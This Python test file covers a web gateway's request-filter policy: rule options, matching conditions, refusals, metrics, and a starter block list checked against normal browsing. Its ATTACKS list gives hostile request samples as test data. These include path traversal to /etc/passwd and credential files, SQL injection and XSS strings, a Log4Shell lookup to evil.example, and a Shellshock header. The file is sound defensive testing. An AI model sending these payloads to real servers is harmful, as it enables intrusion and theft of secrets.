"""
Tests for L{gatewaykit.policies.request_filter}: its options, each kind of
rule condition, the refusal, its counters, and the starter rule set in
C{conf/filters.yaml}.
"""

from __future__ import annotations

import json
import os
from typing import Any, Optional

from prometheus_client.parser import text_string_to_metric_families
from twisted.trial.unittest import SynchronousTestCase
from zope.interface.verify import verifyObject

from gatewaykit.config import ConfigError, parse_config
from gatewaykit.interfaces import IPolicy, IPolicyFactory
from gatewaykit.policies.request_filter import (
    RequestFilter,
    RequestFilterFactory,
    decoded_forms,
)
from gatewaykit.testing import GatewayHarness, parse_response
from tests.test_admin_state import AdminWorld

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FILTERS = os.path.join(ROOT, "conf", "filters.yaml")

CONFIG = """
listeners:
  web: {{protocol: http, bind: ":8080"}}
upstreams:
  app: {{targets: ["10.0.0.1:80"]}}
policies:
  waf: {policy}
routes:
  - {{name: all, match: {{path_prefix: /}}, policies: [waf], upstream: app}}
"""


def load(policy: str, base_dir: Optional[str] = None) -> Any:
    """The config with policy C{waf} written as C{policy} (YAML flow or block)."""
    return parse_config(CONFIG.format(policy=policy), "gw.yaml", base_dir=base_dir or ROOT)


class FilterWorld:
    """A gateway whose one route applies request filter C{waf}, then proxies."""

    def __init__(self, policy: str) -> None:
        self.harness = GatewayHarness(load(policy))
        self.policy: RequestFilter = self.harness.gateway.policies["waf"]  # type: ignore[assignment]

    def send(self, request: bytes, client: str = "192.0.2.7") -> Optional[Any]:
        """The gateway's own answer to C{request}, or C{None} if it went upstream."""
        before = len(self.harness.reactor.tcpClients)
        protocol, transport = self.harness.connect(client=client)
        protocol.dataReceived(request)
        if len(self.harness.reactor.tcpClients) > before:
            return None
        return parse_response(transport.value())

    def get(self, target: str, *fields: str, client: str = "192.0.2.7") -> Optional[Any]:
        head = f"GET {target} HTTP/1.1\r\nHost: example.com\r\n"
        head += "".join(f"{field}\r\n" for field in fields)
        return self.send((head + "\r\n").encode("latin-1"), client)

    def refused_by(self, target: str, *fields: str, client: str = "192.0.2.7") -> Optional[str]:
        """The rule that refused C{GET target}, or C{None} if it passed."""
        answer = self.get(target, *fields, client=client)
        if answer is None:
            return None
        problem = json.loads(answer.body)
        return str(problem.get("rule", problem["type"]))


def problems(policy: str, base_dir: Optional[str] = None) -> list[str]:
    try:
        load(policy, base_dir)
    except ConfigError as e:
        return [str(problem) for problem in e.problems]
    raise AssertionError("the config loaded")


class OptionsTests(SynchronousTestCase):
    """The policy's keys."""

    def test_provides(self) -> None:
        """The factory and the policy provide their interfaces."""
        verifyObject(IPolicyFactory, RequestFilterFactory())
        verifyObject(IPolicy, FilterWorld('{type: request_filter, rules: [{method: PUT}]}').policy)

    def test_rules(self) -> None:
        """Rules keep their order; unnamed ones are named by their place."""
        policy = FilterWorld(
            '{type: request_filter, status: 404, rules: [{path_regex: "^/a"},'
            ' {name: b, methods: [get, post], status: 451}]}'
        ).policy
        self.assertEqual([rule.name for rule in policy.rules], ["rules[0]", "b"])
        self.assertEqual(policy.rules[1].methods, frozenset({"GET", "POST"}))
        self.assertEqual((policy.status, policy.rules[1].status), (404, 451))

    def test_rule_mistakes(self) -> None:
        """Each mistake is reported at its place."""
        self.assertEqual(
            problems(
                '{type: request_filter, rules: [{name: x}, {path_regex: "(", method: GET},'
                ' {method: GET, methods: [PUT]}, {query_regex: a, status: 200},'
                ' {client_ip: [10.0.0.1/8]}, {method: GET, colour: red}]}'
            ),
            [
                "gw.yaml:7:39: a rule needs at least one condition: path_regex, method,"
                " methods, headers, query, query_regex, client_ip",
                "gw.yaml:7:63: invalid regular expression: missing ), unterminated subpattern"
                " at position 0",
                "gw.yaml:7:83: give method or methods, not both",
                "gw.yaml:7:138: expected an integer from 400 to 599, got 200",
                "gw.yaml:7:157: '10.0.0.1/8' has host bits set; did you mean '10.0.0.0/8'?",
                "gw.yaml:7:185: unknown key 'colour'; expected one of: name, enabled,"
                " path_regex, method, methods, headers, query, query_regex, client_ip, status",
            ],
        )

    def test_duplicate_names(self) -> None:
        """Two rules with one name are an error."""
        self.assertEqual(
            problems("{type: request_filter, rules: [{name: a, method: GET}, {name: a, method: PUT}]}"),
            ["gw.yaml:7:63: duplicate rule name 'a' (first at 7:39)"],
        )

    def test_needs_rules(self) -> None:
        """A filter without rules or a rules file is a mistake."""
        self.assertEqual(
            problems("{type: request_filter, status: 403}"),
            ["gw.yaml:7:8: a request_filter needs rules, a rules_file, or both"],
        )

    def test_rules_file(self) -> None:
        """A rules file's rules follow the inline ones; disable and enabled leave some out."""
        policy = FilterWorld(
            f"{{type: request_filter, rules_file: {FILTERS}, disable: [wordpress],"
            " rules: [{name: mine, method: PATCH}]}"
        ).policy
        names = [rule.name for rule in policy.rules]
        self.assertEqual(names[:3], ["mine", "path-traversal", "traversal-query"])
        self.assertNotIn("wordpress", names)
        self.assertNotIn("php", names)  # enabled: false in the file
        self.assertIn("scanners", names)

    def test_rules_file_relative(self) -> None:
        """A relative rules_file is taken from the config's folder."""
        config = load("{type: request_filter, rules_file: conf/filters.yaml}", ROOT)
        self.assertTrue(config.policies["waf"].options.rules)

    def test_rules_file_problems(self) -> None:
        """A mistake in the rules file is reported at its line in that file."""
        folder = os.path.abspath(self.mktemp())
        os.makedirs(folder)
        with open(os.path.join(folder, "mine.yaml"), "w") as f:
            f.write("rules:\n  - {name: ok, method: GET}\n  - {name: bad, path_regex: '['}\n")
        self.assertEqual(
            problems("{type: request_filter, rules_file: mine.yaml}", folder),
            [
                f"{folder}/mine.yaml:3:29: invalid regular expression: unterminated character"
                " set at position 0"
            ],
        )

    def test_rules_file_missing(self) -> None:
        """An unreadable rules file is an error at the key."""
        [problem] = problems("{type: request_filter, rules_file: nowhere.yaml}", "/nonexistent")
        self.assertTrue(
            problem.startswith("gw.yaml:7:43: cannot read rules file 'nowhere.yaml'"), problem
        )

    def test_disable_unknown(self) -> None:
        """disable must name a rule that exists."""
        self.assertEqual(
            problems("{type: request_filter, rules: [{method: GET}], disable: [nope]}"),
            ["gw.yaml:7:64: disable names no rule called 'nope'"],
        )


class RuleTests(SynchronousTestCase):
    """Each kind of condition, and rules as a whole."""

    def test_path_regex(self) -> None:
        """path_regex is searched in the path, also when it came encoded."""
        world = FilterWorld(r'{type: request_filter, rules: [{path_regex: "(?i)/\\.git(/|$)"}]}')
        self.assertEqual(world.refused_by("/.git/config"), "rules[0]")
        self.assertEqual(world.refused_by("/%2EGIT/config"), "rules[0]")
        self.assertEqual(world.refused_by("/a/%252e%2567it/HEAD"), "rules[0]")
        self.assertIsNone(world.refused_by("/github/x"))

    def test_path_traversal_forms(self) -> None:
        """A rule sees the path as received, not only as normalised."""
        world = FilterWorld(r"""{type: request_filter, rules: [{path_regex: '(^|/)\.\.(/|$)'}]}""")
        # Normalised, /a/%2e%2e/b is /b: only the received form shows the climb.
        self.assertEqual(world.refused_by("/a/%2e%2e/b"), "rules[0]")
        self.assertEqual(world.refused_by("/a/..%2f..%2fetc"), "rules[0]")
        self.assertEqual(world.refused_by("/a/%252e%252e%252fb"), "rules[0]")
        self.assertIsNone(world.refused_by("/a/b..c/d"))

    def test_methods(self) -> None:
        """method and methods."""
        world = FilterWorld(
            "{type: request_filter, rules: [{name: one, method: TRACE},"
            " {name: many, methods: [PUT, DELETE]}]}"
        )
        trace = world.send(b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n")
        delete = world.send(b"DELETE /x HTTP/1.1\r\nHost: a\r\n\r\n")
        assert trace is not None and delete is not None
        self.assertEqual(json.loads(trace.body)["rule"], "one")
        self.assertEqual(json.loads(delete.body)["rule"], "many")
        self.assertIsNone(world.get("/x"))

    def test_headers(self) -> None:
        """Header conditions: exact, ~regex (case-insensitive with (?i)) and present."""
        world = FilterWorld(
            "{type: request_filter, rules: ["
            "{name: exact, headers: {X-Mode: debug}},"
            " {name: regex, headers: {User-Agent: '~(?i)sqlmap|nikto'}},"
            " {name: present, headers: {X-Forwarded-Server: '*'}}]}"
        )
        self.assertEqual(world.refused_by("/", "x-mode: debug"), "exact")
        self.assertIsNone(world.get("/", "X-Mode: debugging"))
        self.assertEqual(world.refused_by("/", "User-Agent: SQLMap/1.7"), "regex")
        self.assertEqual(world.refused_by("/", "X-Forwarded-Server: x"), "present")
        self.assertIsNone(world.get("/", "User-Agent: Mozilla/5.0"))

    def test_query(self) -> None:
        """Query conditions match decoded values; * means present."""
        world = FilterWorld(
            "{type: request_filter, rules: ["
            "{name: exact, query: {debug: 'true'}},"
            " {name: regex, query: {q: '~(?i)<script'}},"
            " {name: present, query: {XDEBUG_SESSION_START: '*'}}]}"
        )
        self.assertEqual(world.refused_by("/?a=1&debug=%74rue"), "exact")
        self.assertEqual(world.refused_by("/?q=%3CScript%3E"), "regex")
        self.assertEqual(world.refused_by("/?q=%253Cscript"), "regex")
        self.assertEqual(world.refused_by("/?XDEBUG_SESSION_START"), "present")
        self.assertIsNone(world.get("/?debug=false&q=scripts"))

    def test_query_regex(self) -> None:
        """query_regex is searched in the query string, raw and decoded (+ as space)."""
        world = FilterWorld(r"{type: request_filter, rules: [{query_regex: '(?i)union\s+select'}]}")
        self.assertEqual(world.refused_by("/?id=1+UNION+SELECT+1"), "rules[0]")
        self.assertEqual(world.refused_by("/?id=1%20union%0aselect"), "rules[0]")
        self.assertIsNone(world.get("/?q=union+station"))

    def test_client_ip(self) -> None:
        """client_ip: the client address in one of the networks."""
        world = FilterWorld("{type: request_filter, rules: [{client_ip: [203.0.113.0/24, '2001:db8::/32']}]}")
        self.assertEqual(world.refused_by("/", client="203.0.113.9"), "rules[0]")
        self.assertEqual(world.refused_by("/", client="::ffff:203.0.113.9"), "rules[0]")
        self.assertEqual(world.refused_by("/", client="2001:db8::1"), "rules[0]")
        self.assertIsNone(world.get("/", client="198.51.100.1"))

    def test_all_conditions(self) -> None:
        """A rule matches only when every condition it gives holds."""
        world = FilterWorld(
            "{type: request_filter, rules: [{path_regex: ^/admin, method: POST,"
            " client_ip: [192.0.2.0/24]}]}"
        )
        post = b"POST /admin HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n"
        self.assertIsNotNone(world.send(post))
        self.assertIsNone(world.send(post, client="198.51.100.1"))
        self.assertIsNone(world.get("/admin"))

    def test_first_match(self) -> None:
        """The first rule that matches decides."""
        world = FilterWorld(
            "{type: request_filter, rules: [{name: a, path_regex: x}, {name: b, path_regex: y}]}"
        )
        self.assertEqual(world.refused_by("/xy"), "a")
        self.assertEqual(world.refused_by("/y"), "b")


class RefusalTests(SynchronousTestCase):
    """The answer, the counters and the metric."""

    def test_problem(self) -> None:
        """403 filtered, a problem body naming the rule, and the upstream never asked."""
        world = FilterWorld("{type: request_filter, rules: [{name: dotgit, path_regex: '/\\.git'}]}")
        answer = world.get("/.git/HEAD")
        assert answer is not None
        self.assertEqual(answer.status, 403)
        self.assertEqual(answer.headers.get(b"content-type"), b"application/problem+json")
        problem = json.loads(answer.body)
        self.assertEqual(problem["type"], "urn:gatewaykit:error:filtered")
        self.assertEqual(problem["detail"], "refused by rule 'dotgit' of request filter 'waf'")
        self.assertEqual(problem["rule"], "dotgit")
        self.assertEqual(world.harness.reactor.tcpClients, [])

    def test_status(self) -> None:
        """A rule's status wins over the policy's."""
        world = FilterWorld(
            "{type: request_filter, status: 404, rules: [{name: a, path_regex: ^/a},"
            " {name: b, path_regex: ^/b, status: 410}]}"
        )
        first, second = world.get("/a"), world.get("/b")
        assert first is not None and second is not None
        self.assertEqual((first.status, second.status), (404, 410))

    def test_counts(self) -> None:
        """matches counts refusals by rule."""
        world = FilterWorld(
            "{type: request_filter, rules: [{name: a, path_regex: ^/a}, {name: b, path_regex: ^/b}]}"
        )
        for path in ("/a", "/a", "/b", "/c"):
            world.get(path)
        self.assertEqual(world.policy.matches, {"a": 2, "b": 1})

    def test_metric(self) -> None:
        """gatewaykit_request_filter_matches_total{policy, rule}, carried across reloads."""
        world = AdminWorld(
            CONFIG.format(
                policy="{type: request_filter, rules: [{name: a, path_regex: ^/a},"
                " {name: b, method: PUT}]}"
            )
        )
        state = world.state()

        def scrape() -> dict[tuple[str, str], float]:
            text = self.successResultOf(state.metrics_text()).decode()
            return {
                (sample.labels["policy"], sample.labels["rule"]): sample.value
                for family in text_string_to_metric_families(text)
                for sample in family.samples
                if sample.name == "gatewaykit_request_filter_matches_total"
            }

        world.get("/a")
        self.assertEqual(scrape(), {("waf", "a"): 1.0, ("waf", "b"): 0.0})
        world.rebuild()  # a reload: a new policy object, counting from 0
        world.get("/a/x")
        self.assertEqual(scrape(), {("waf", "a"): 2.0, ("waf", "b"): 0.0})


    def test_workers_merged(self) -> None:
        """Several workers' counts add up by policy and rule."""
        from gatewaykit.admin.state import merge_status

        statuses = [
            {"request_filters": [{"policy": "waf", "matches": {"a": 1, "b": 0}}]},
            {"request_filters": [{"policy": "waf", "matches": {"a": 2, "b": 5}}]},
        ]
        self.assertEqual(
            merge_status(statuses)["request_filters"],
            [{"policy": "waf", "matches": {"a": 3, "b": 5}}],
        )


class FormsTests(SynchronousTestCase):
    """L{decoded_forms}."""

    def test_rounds(self) -> None:
        """Decoding repeats while it changes something, three rounds at most."""
        self.assertEqual(decoded_forms("%25252e"), ["%25252e", "%252e", "%2e", "."])
        self.assertEqual(decoded_forms("%2525252e"), ["%2525252e", "%25252e", "%252e", "%2e"])
        self.assertEqual(decoded_forms("plain"), ["plain"])

    def test_plus(self) -> None:
        """In a query string + is a space."""
        self.assertEqual(decoded_forms("a+b", plus=True), ["a+b", "a b"])
        self.assertEqual(decoded_forms("a+b"), ["a+b"])


# Requests the starter rules refuse: (rule, target, header fields).
ATTACKS = [
    ("path-traversal", "/static/js/../../etc/passwd", ()),
    ("path-traversal", "/static/js/%2e%2e/%2e%2e/etc/passwd", ()),
    ("path-traversal", "/static/..%2f..%2fetc%2fpasswd", ()),
    ("path-traversal", "/static/%252e%252e%252f%252e%252e%252fetc", ()),
    ("path-traversal", "/static/..%5c..%5cwindows", ()),
    ("path-traversal", "/app/..;/manager/html", ()),
    ("traversal-query", "/download?file=../../etc/passwd", ()),
    ("traversal-query", "/download?file=%2e%2e%2f%2e%2e%2fsecret", ()),
    ("traversal-query", "/view?page=/etc/passwd", ()),
    ("system-files", "/etc/passwd", ()),
    ("system-files", "/c/boot.ini", ()),
    ("dotfiles", "/.git/config", ()),
    ("dotfiles", "/.git/HEAD", ()),
    ("dotfiles", "/.gitignore", ()),
    ("dotfiles", "/.env", ()),
    ("dotfiles", "/api/.env.production", ()),
    ("dotfiles", "/.aws/credentials", ()),
    ("dotfiles", "/.ssh/id_rsa", ()),
    ("dotfiles", "/.DS_Store", ()),
    ("dotfiles", "/%2egit/config", ()),
    ("dotfiles", "/.htpasswd", ()),
    ("backup-files", "/index.php.bak", ()),
    ("backup-files", "/backup/db.sql", ()),
    ("backup-files", "/config.yml~", ()),
    ("backup-files", "/home/id_rsa", ()),
    ("scanners", "/", ("User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)",)),
    ("scanners", "/", ("User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",)),
    ("scanners", "/", ("User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)",)),
    ("scanners", "/", ("User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)",)),
    ("scanners", "/", ("User-Agent: Mozilla/5.0 zgrab/0.x",)),
    ("scanners", "/", ("User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",)),
    ("sql-injection", "/items?id=1+UNION+SELECT+username,password+FROM+users", ()),
    ("sql-injection", "/items?id=1%20union%20all%20select%20null", ()),
    ("sql-injection", "/items?id=1/**/UNION/**/SELECT/**/1", ()),
    ("sql-injection", "/login?user=admin'+or+'1'='1", ()),
    ("sql-injection", "/login?user=admin%27%20OR%201=1--", ()),
    ("sql-injection", "/items?id=1+or+1=1", ()),
    ("sql-injection", "/items?id=1)+AND+SLEEP(5)--", ()),
    ("sql-injection", "/items?id=1;waitfor+delay+'0:0:5'", ()),
    ("sql-injection", "/items?id=1+and+benchmark(5000000,md5(1))", ()),
    ("sql-injection", "/items?id=(select+table_name+from+information_schema.tables)", ()),
    ("sql-injection", "/items?id=%2527%2520or%25201%253D1", ()),
    ("xss-query", "/search?q=<script>alert(1)</script>", ()),
    ("xss-query", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", ()),
    ("log4shell-query", "/?x=${jndi:ldap://evil.example/a}", ()),
    ("log4shell-query", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", ()),
    ("log4shell-agent", "/", ("User-Agent: ${jndi:ldap://evil.example/a}",)),
    ("shellshock-agent", "/cgi/status", ("User-Agent: () { :; }; /bin/cat /etc/passwd",)),
    ("wordpress", "/wp-login.php", ()),
    ("wordpress", "/wp-admin/", ()),
    ("wordpress", "/blog/wp-content/plugins/x/readme.txt", ()),
    ("wordpress", "/xmlrpc.php", ()),
    ("wordpress", "/wp-config.php", ()),
    ("admin-probes", "/phpmyadmin/index.php", ()),
    ("admin-probes", "/cgi-bin/luci", ()),
    ("admin-probes", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ()),
    ("admin-probes", "/phpinfo.php", ()),
]

CHROME = (
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"
    " (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
)
BROWSER = (
    CHROME,
    "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
    "image/webp,*/*;q=0.8",
    "Accept-Language: en-GB,en;q=0.9,fr;q=0.8",
    "Accept-Encoding: gzip, deflate, br, zstd",
    "Referer: https://example.com/search?q=union+station&page=2",
    "Cookie: _ga=GA1.2.1234567890.1700000000; session=eyJ1c2VyIjoxfQ.ZmFrZQ; theme=dark",
    'sec-ch-ua: "Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"',
    "sec-ch-ua-platform: \"Windows\"",
    "Sec-Fetch-Mode: navigate",
    "Upgrade-Insecure-Requests: 1",
)

# Requests of normal browsing the starter rules let through.
BROWSING = [
    "/",
    "/index.html",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/9fUqBfYkz0h",
    "/assets/app.3f9a1c.min.js?v=1.2.3",
    "/assets/styles/main.css",
    "/images/team/o'reilly.jpg",
    "/fonts/inter-var.woff2",
    "/api/hello",
    "/api/hello?lang=en&page=2",
    "/api/users/42?fields=name,email&expand=orders",
    "/api/items?sort=-created_at&filter[status]=active&limit=50",
    "/api/search?q=union+station+cafe",
    "/api/search?q=select+a+car+insurance",
    "/api/search?q=how+to+sleep+well&from=2024-01-01",
    "/api/search?q=O%27Reilly+books",
    "/api/search?q=rock+and+roll+1%3D1+song",
    "/api/search?q=%E2%9C%93+caf%C3%A9",
    "/api/search?q=javascript+the+good+parts",
    "/api/search?q=%22exact+phrase%22+and+more",
    "/api/search?q=c%2B%2B+or+rust",
    "/api/redirect?next=%2Fdashboard%3Ftab%3Dbilling",
    "/api/files/report.2024.pdf",
    "/api/v2/orders/1234/items/5",
    "/old/page",
    "/docs/getting-started",
    "/blog/2024/05/a-post-about-php-and-wordpress",
    "/download/app-1.0.0.tar.gz",
    "/users/me/settings?section=privacy&tab=cookies",
    "/api/tracking?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
    "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
    "/api/geo?lat=51.5072&lng=-0.1276&radius=5km",
    "/api/price?min=10&max=100&currency=EUR",
]


class StarterRulesTests(SynchronousTestCase):
    """conf/filters.yaml refuses common probes and lets browsing through."""

    def setUp(self) -> None:
        self.world = FilterWorld(f"{{type: request_filter, rules_file: {FILTERS}}}")

    def test_attacks(self) -> None:
        """Each probe is refused by the rule meant for it."""
        for rule, target, fields in ATTACKS:
            self.assertEqual(self.world.refused_by(target, *fields), rule, target)

    def test_debug_methods(self) -> None:
        """TRACE and TRACK are refused."""
        answer = self.world.send(b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n")
        assert answer is not None
        self.assertEqual(json.loads(answer.body)["rule"], "debug-methods")

    def test_browsing(self) -> None:
        """A browser's requests all pass, with realistic header fields."""
        for target in BROWSING:
            self.assertIsNone(self.world.get(target, *BROWSER), target)
        others = (
            "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            "User-Agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15"
            " (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
            "User-Agent: curl/8.5.0",
            "User-Agent: python-requests/2.31.0",
        )
        for agent in others:
            self.assertIsNone(self.world.get("/api/hello?x=1", agent), agent)

    def test_api_writes(self) -> None:
        """POST, PUT, PATCH and DELETE of an API pass."""
        body = b'{"name": "O\'Reilly", "note": "select the union"}'
        for method in (b"POST", b"PUT", b"PATCH", b"DELETE"):
            request = (
                method + b" /api/orders/7 HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
            )
            self.assertIsNone(self.world.send(request), method)

    def test_php_rule_is_off(self) -> None:
        """The optional .php rule is disabled in the file."""
        self.assertIsNone(self.world.get("/index.php"))
